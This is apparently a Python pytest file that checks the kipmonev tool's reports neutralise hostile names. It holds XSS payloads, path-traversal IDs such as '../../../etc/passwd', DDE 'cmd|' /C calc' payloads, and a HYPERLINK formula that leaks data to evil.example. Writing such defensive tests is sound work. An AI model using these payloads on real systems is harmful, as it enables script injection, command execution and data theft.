"""Hostile text through the real pipeline (issue 7): fill → ``kipmonev score`` → ``kipmonev report``.

Body identities carry markup, path tricks, control and bidi characters, 10,000-character names and
formula starts. Every output must keep the text as data and never let it act: JSON keeps it verbatim,
HTML escapes it, PDF shows it as text, file names are safe, and no spreadsheet cell or CSV field can run
as a formula.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from pypdf import PdfReader

from kipmonev import load_questionnaire
from kipmonev.app.output_folder import MANIFEST
from kipmonev.cli import cli
from kipmonev.model.result import Assessment
from kipmonev.model.submission import Answer, BodyIdentity, Submission
from kipmonev.outputs.fill import fill_template
from kipmonev.outputs.template import save_workbook
from kipmonev.sources.cells import clean_text

RUNNER = CliRunner()
PDF_BODIES = ("H-01", "H-03")
EDITION = "ki-pusat-2025-bumn"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?[0-9.]+(,[0-9]+)?$")  # Indonesian numbers in CSV ('-1,50') are not formulas
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
LONG = ("\u202eBadan\u200f Pengawas 🏛️ " + "Ж" * 30 + " ") * 250  # 10,000+ characters, RTL override, emoji

BODIES: list[BodyIdentity] = [
    BodyIdentity(id="H-01", name=SCRIPT, website="javascript:alert(document.cookie)", ppid_name='"><svg onload=alert(1)>', category="<b>BUMN</b>"),
    BodyIdentity(id="../../../etc/passwd", name="..\\..\\Windows\\win.ini", category="../"),
    BodyIdentity(id="H-03", name="Badan\x7f\x85Uji\u200b\ufeff" + LONG),
    BodyIdentity(id="H-04", name='=HYPERLINK("http://evil.example/?d="&A1,"klik")', ppid_email="=cmd|' /C calc'!A0"),
    BodyIdentity(id="H-05", name="+62 21 000"),
    BodyIdentity(id="H-06", name="-1+1"),
    BodyIdentity(id="H-07", name="@SUM(1+1)*cmd|' /C calc'!A0"),
    BodyIdentity(id="H-08", name="  =1+1"),
    BodyIdentity(id="H-09", name="\t=1+1"),
    BodyIdentity(id="=1+1", name="\r\n@A1"),
]


def _workbook(path: Path, body: BodyIdentity) -> Path:
    """A filled template whose identity, a note and an evidence item are hostile, stored as text as Excel does."""
    q = load_questionnaire(EDITION)
    first = q.questions[0].code
    note = "=HYPERLINK(\"http://evil.example\",\"klik\")"
    evidence = ('https://ppid.contoh.go.id/"><script>alert(1)</script>', "@SUM(1)", "javascript:alert(1)")
    submission = Submission(questionnaire_id=q.id, body=body, answers={first: Answer(value="Ya", evidence=evidence, note=note)})
    wb = fill_template(q, submission)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):  # typed text, not a formula (Excel's leading ')
                    cell.data_type = "s"
    save_workbook(wb, path)
    return path


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("jahat")
    (root / "masuk").mkdir()
    for i, body in enumerate(BODIES):
        _workbook(root / "masuk" / f"isian-{i:02d}.xlsx", body)
    result = RUNNER.invoke(cli, ["score", str(root / "masuk"), "-o", str(root / "keluar"), "-q"])
    assert result.exit_code == 0, result.stderr
    results = sorted((root / "keluar" / "hasil").glob("*.json"))
    result = RUNNER.invoke(cli, ["report", *map(str, results), "-o", str(root / "laporan"), "--format", "html,xlsx", "--date", "2025-11-23", "-j", "2"])
    assert result.exit_code == 0, result.stderr
    pdf_inputs = [str(p) for p in results if p.name.startswith(PDF_BODIES)]  # PDFs are slow: the markup and the long name
    result = RUNNER.invoke(cli, ["report", *pdf_inputs, "-o", str(root / "laporan"), "--format", "pdf", "--date", "2025-11-23", "-j", "2"])
    assert result.exit_code == 0, result.stderr
    return root


def _formula_safe(text: str) -> bool:
    return not text.startswith(FORMULA_STARTS) or bool(NUMBER.match(text))


def test_results_keep_every_name_verbatim_as_data(outputs: Path) -> None:
    names = sorted(Assessment.from_json(p.read_bytes()).body.name for p in (outputs / "keluar" / "hasil").glob("*.json"))
    assert names == sorted(clean_text(b.name) for b in BODIES)
    first = next(Assessment.from_json(p.read_bytes()) for p in (outputs / "keluar" / "hasil").glob("*.json") if "H-01" in p.name)
    assert (first.body.name, first.body.website) == (SCRIPT, "javascript:alert(document.cookie)")


def test_every_file_name_is_safe_and_inside_its_folder(outputs: Path) -> None:
    files = [p for p in outputs.rglob("*") if p.is_file() and "masuk" not in p.parts]
    # rekap.json/.xlsx, 4 CSVs and score's manifest of what it owns; a result, HTML and XLSX per body; 2 PDFs
    assert len(files) == 2 + 4 + 1 + len(BODIES) * 3 + len(PDF_BODIES)
    for path in files:
        assert path.resolve().is_relative_to(outputs.resolve())
        name = path.name
        hidden_allowed = path == outputs / "keluar" / MANIFEST  # our own, fixed name: never made from a body's text
        assert len(name.encode("utf-8")) <= 255 and (hidden_allowed or not name.startswith((".", "-")))  # never '..', never hidden
        assert not any(ord(ch) < 32 or ord(ch) == 127 or ch in '<>:"/\\|?*\u202e\u200f\u200b\ufeff' for ch in name), name
    assert "1-1.json" in {p.name for p in (outputs / "keluar" / "hasil").iterdir()}  # ID "=1+1": the same rules as report names


def test_no_spreadsheet_cell_can_run_as_a_formula(outputs: Path) -> None:
    books = [outputs / "keluar" / "rekap.xlsx", *sorted((outputs / "laporan").glob("*.xlsx"))]
    assert len(books) == 1 + len(BODIES)
    seen: set[str] = set()
    for book in books:
        with zipfile.ZipFile(book) as z:
            for part in z.namelist():
                if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                    assert b"<f>" not in z.read(part) and b"<f " not in z.read(part), (book.name, part)
        wb = load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
                        assert cell.data_type != "f" and _formula_safe(cell.value), (book.name, ws.title, cell.coordinate, cell.value)
    for name in ("'" + clean_text(b.name) for b in BODIES[3:]):
        assert name in seen  # neutralised, not dropped


def test_no_csv_field_can_run_as_a_formula(outputs: Path) -> None:
    texts = []
    for path in sorted((outputs / "keluar").glob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
        for row in rows:
            for field in row:
                assert _formula_safe(field), (path.name, field)
                texts.append(field)
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")" in texts and "'@A1" in texts and "'+62 21 000" in texts


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_reports_escape_everything(outputs: Path) -> None:
    pages = sorted((outputs / "laporan").glob("*.html"))
    assert len(pages) == len(BODIES)
    for page in pages:
        markup = _Markup()
        markup.feed(page.read_text(encoding="utf-8"))
        assert "script" not in markup.tags and "img" not in markup.tags, page.name  # (the charts are kipmonev's own SVG)
        assert not [a for a, _ in markup.attrs if a.startswith("on")], page.name
        hrefs = [v or "" for a, v in markup.attrs if a in ("href", "src")]
        assert all(h.startswith(("https://", "http://", "#", "data:")) for h in hrefs), hrefs
    first = next(p for p in pages if p.name.startswith("H-01"))
    markup = _Markup()
    markup.feed(first.read_text(encoding="utf-8"))
    assert SCRIPT in "".join(markup.text)  # shown as text, exactly


def test_pdf_reports_show_the_text_and_carry_no_actions(outputs: Path) -> None:
    pdfs = sorted((outputs / "laporan").glob("*.pdf"))
    assert len(pdfs) == len(PDF_BODIES)
    for pdf in pdfs:
        data = pdf.read_bytes()
        for marker in (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/SubmitForm", b"/ImportData"):
            assert marker not in data, (pdf.name, marker)
        reader = PdfReader(pdf)
        for page in reader.pages:
            for annotation in page.get("/Annots") or []:
                action = annotation.get_object().get("/A")
                if action is not None:
                    uri = str(action.get_object().get("/URI", ""))
                    assert uri.startswith(("https://", "http://")) or not uri, uri
    first = next(p for p in pdfs if p.name.startswith("H-01"))
    text = "".join(page.extract_text() for page in PdfReader(first).pages)
    assert 'alert("x")' in text and "onerror" in text


def _terminal_safe(text: str) -> bool:
    return not any(ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf") for ch in text)


@pytest.mark.parametrize(
    ("args", "marked"),
    [
        (("compare", "{out}", "{out}"), True),  # H-03's name: DEL, NEL, zero-width marks, RTL overrides
        (("check", "{inp}/isian-02.xlsx"), True),
        (("check", "{inp}/isian-09.xlsx"), False),  # '\r\n@A1': the reader already cleans line breaks in names
        (("score", "{inp}", "-o", "{tmp}/lagi"), False),
    ],
    ids=["compare", "check-bidi", "check-newline", "score"],
)
def test_terminal_output_carries_no_control_characters(outputs: Path, tmp_path: Path, args: tuple[str, ...], marked: bool) -> None:
    paths = {"out": str(outputs / "keluar"), "inp": str(outputs / "masuk"), "tmp": str(tmp_path)}
    result = RUNNER.invoke(cli, [a.format(**paths) for a in args])
    assert result.exit_code in (0, 1), result.stderr
    assert _terminal_safe(result.stdout) and _terminal_safe(result.stderr)
    assert ("\ufffd" in result.stdout + result.stderr) is marked  # what was removed stays visible as a mark
